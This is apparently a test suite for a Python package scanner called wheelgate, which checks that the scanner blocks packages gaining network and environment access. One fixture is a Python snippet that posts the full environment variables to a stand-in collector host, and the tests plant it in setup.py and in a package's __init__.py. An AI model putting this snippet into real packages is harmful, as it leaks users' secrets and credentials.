import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { diffReportSchema } from '../../src/api/diff.ts';
import { scanReportSchema } from '../../src/api/scan.ts';
import { aSdist, aSdistName } from '../builders/a-sdist.ts';
import { aWheel, aWheelName } from '../builders/a-wheel.ts';
import { startFakeIndex } from '../fakes/fake-index.ts';
import { runWheelgate } from './start-gate.ts';

const STEALING = `import os, urllib.request
urllib.request.urlopen('https://collector.example.invalid/', data=str(dict(os.environ)).encode())
`;
const quiet = aWheel({ version: '1.0' });
const stealing = aWheel({ version: '1.1', files: { 'demo/__init__.py': STEALING } });

let folder: string;
let env: Record<string, string>;
const at = (...names: string[]) => join(folder, ...names);
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'wheelgate-scan-'));
  env = { WHEELGATE_DATA: at('data') };
  await mkdir(at('files'));
  await writeFile(at('files', aWheelName({ version: '1.0' })), quiet);
  await writeFile(at('files', aWheelName({ version: '1.1' })), stealing);
  await mkdir(at('tree', 'dist'), { recursive: true });
  await writeFile(at('tree', 'setup.py'), STEALING);
  await writeFile(at('tree', 'dist', aWheelName({ version: '1.0' })), quiet);
});
after(() => rm(folder, { recursive: true }));

test('scan scores by behaviour, one result per input in their order, a source tree included', async () => {
  const list = at('list');
  const inputs = [at('tree'), at('files', aWheelName({ version: '1.1' })), at('files', aWheelName({ version: '1.0' }))];
  await writeFile(list, inputs.join('\n'));
  const { code, out } = await runWheelgate(
    ['scan', '--no-advisories', '--jobs', '1', '--format', 'json', '--files-from', list],
    env,
  );
  const { results } = scanReportSchema.parse(JSON.parse(out));
  assert.equal(code, 1);
  assert.deepEqual(
    results.map(({ input }) => input),
    inputs,
  );
  assert.deepEqual(
    results.map(({ verdict }) => verdict),
    ['block', 'block', 'allow'],
  );
  assert.deepEqual(results[0]!.capabilities[0], {
    capability: 'network',
    context: 'install',
    file: 'setup.py',
    line: 2,
  });
  assert.equal(results[1]!.capabilities[0]?.context, 'import');
  assert.ok(results[0]!.score > 0.9 && results[1]!.score > 0.9);
  assert.equal(results[2]!.score, 0);
  assert.equal(results[1]!.findings[0]?.line, 2);
});

test('scan tells once how old the advisories are, and nothing was scanned where nothing is', async () => {
  const scanned = await runWheelgate(['scan', at('files')], env);
  assert.equal(scanned.code, 1, scanned.err);
  assert.equal(scanned.out.match(/feed-age/g)?.length, 1, scanned.out);
  await mkdir(at('empty'));
  const nothing = await runWheelgate(['scan', at('empty')], env);
  assert.equal(nothing.code, 5);
  assert.match(nothing.err, /nothing was scanned: there are no files/);
});

test('diff says what was gained and exits by its verdict', async () => {
  const files = [at('files', aWheelName({ version: '1.0' })), at('files', aWheelName({ version: '1.1' }))];
  const { code, out } = await runWheelgate(['diff', '--no-advisories', '--format', 'json', ...files], env);
  const report = diffReportSchema.parse(JSON.parse(out));
  assert.equal(code, 1);
  assert.equal(report.verdict, 'block');
  assert.deepEqual(
    report.gained,
    ['network', 'environment'].map((capability) => ({
      capability,
      context: 'import',
      file: 'demo/__init__.py',
      line: 2,
    })),
  );
  assert.ok(report.changed.some(({ file, change }) => file === 'demo/__init__.py' && change === 'changed'));
  const back = await runWheelgate(['diff', '--no-advisories', '--format', 'json', files[1]!, files[0]!], env);
  assert.equal(back.code, 0);
  assert.deepEqual(diffReportSchema.parse(JSON.parse(back.out)).lost, report.gained);
});

test('diff finds releases at the upstream of the gate', async () => {
  const upstream = await startFakeIndex();
  upstream.addFile('demo', aWheelName({ version: '1.0' }), quiet);
  upstream.addFile('demo', aWheelName({ version: '1.1' }), stealing);
  try {
    const { code, out } = await runWheelgate(['diff', '--format', 'json', 'demo==1.0', 'pkg:pypi/demo@1.1'], {
      ...env,
      WHEELGATE_UPSTREAM: upstream.simpleUrl,
    });
    assert.equal(code, 1, out);
    assert.equal(diffReportSchema.parse(JSON.parse(out)).new.filename, aWheelName({ version: '1.1' }));
  } finally {
    await upstream.stop();
  }
});

test('diff of an sdist and its wheel tells what nobody can read in the sdist', async () => {
  const sdist = at(aSdistName({ version: '1.1' }));
  await writeFile(sdist, aSdist({ version: '1.1' }));
  const { code, out } = await runWheelgate(
    ['diff', '--format', 'json', sdist, at('files', aWheelName({ version: '1.1' }))],
    env,
  );
  const { findings } = diffReportSchema.parse(JSON.parse(out));
  assert.equal(code, 1);
  assert.ok(
    findings.some(
      ({ rule, effect, file, message }) =>
        rule === 'sdist-difference' &&
        effect === 'hold' &&
        file === 'demo/__init__.py' &&
        /differs from the sdist/.test(message),
    ),
  );
});

test('diff of what is neither a file nor a release is wrong usage', async () => {
  const { code, err } = await runWheelgate(['diff', at('none.whl'), 'demo==1.0'], env);
  assert.equal(code, 3);
  assert.match(err, /neither a file nor a release/);
});
